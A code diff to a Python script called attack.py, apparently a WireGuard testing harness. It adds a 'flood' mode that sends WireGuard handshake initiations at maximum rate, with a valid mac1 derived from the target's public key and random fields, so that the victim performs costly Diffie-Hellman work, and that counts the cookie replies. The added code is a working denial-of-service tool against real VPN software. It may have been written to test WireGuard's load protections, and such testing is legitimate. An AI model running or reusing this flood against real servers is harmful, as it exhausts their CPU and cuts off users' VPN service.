@@ -7,10 +7,21 @@ could. Usage:
                                                 from ports SPORT, SPORT+1, ...)
   attack.py capture IFACE SRC DPORT             wait for one WireGuard data message from SRC
                                                 to port DPORT on IFACE; print "SPORT HEX"
+  attack.py flood DST DPORT PUBKEY SECONDS      send WireGuard handshake initiations to DST as
+                                                fast as possible for SECONDS: correct mac1 for
+                                                the base64 public key PUBKEY, random ephemeral,
+                                                static and timestamp (so the victim does a
+                                                Diffie-Hellman before it can refuse them), no
+                                                mac2; print "SENT COOKIE_REPLIES" every second
 """
+import base64
+import hashlib
+import os
+import select
 import socket
 import struct
 import sys
+import time
 
 
 def checksum(data):
@@ -54,6 +65,41 @@ def capture_wg_data(iface, src, dport):
             return sport, payload
 
 
+def initiation(mac1_key):
+    """A type-1 message: sender index, ephemeral, encrypted static and timestamp all random."""
+    body = struct.pack("<I", 1) + os.urandom(4) + os.urandom(32) + os.urandom(48) + os.urandom(28)
+    mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
+    return body + mac1 + bytes(16)
+
+
+def flood(dst, dport, pubkey, seconds):
+    mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(pubkey)).digest()
+    messages = [initiation(mac1_key) for _ in range(512)]
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setblocking(False)
+    sent = cookies = 0
+    deadline = time.monotonic() + seconds
+    report = time.monotonic() + 1
+    while time.monotonic() < deadline:
+        if time.monotonic() >= report:
+            print(sent, cookies, flush=True)
+            report += 1
+        for m in messages[sent % 512:] [:64]:
+            try:
+                s.sendto(m, (dst, dport))
+                sent += 1
+            except BlockingIOError:
+                select.select([], [s], [], 0.01)
+        while True:
+            try:
+                reply = s.recv(2048)
+            except (BlockingIOError, ConnectionRefusedError):
+                break
+            if reply[:4] == b"\x03\0\0\0" and len(reply) == 64:
+                cookies += 1
+    print(sent, cookies, flush=True)
+
+
 def main():
     mode = sys.argv[1]
     if mode == "raw":
@@ -65,6 +111,9 @@ def main():
         iface, src, dport = sys.argv[2:5]
         sport, payload = capture_wg_data(iface, src, int(dport))
         print(sport, payload.hex(), flush=True)
+    elif mode == "flood":
+        dst, dport, pubkey, seconds = sys.argv[2:6]
+        flood(dst, int(dport), pubkey, float(seconds))
 
 
 if __name__ == "__main__":
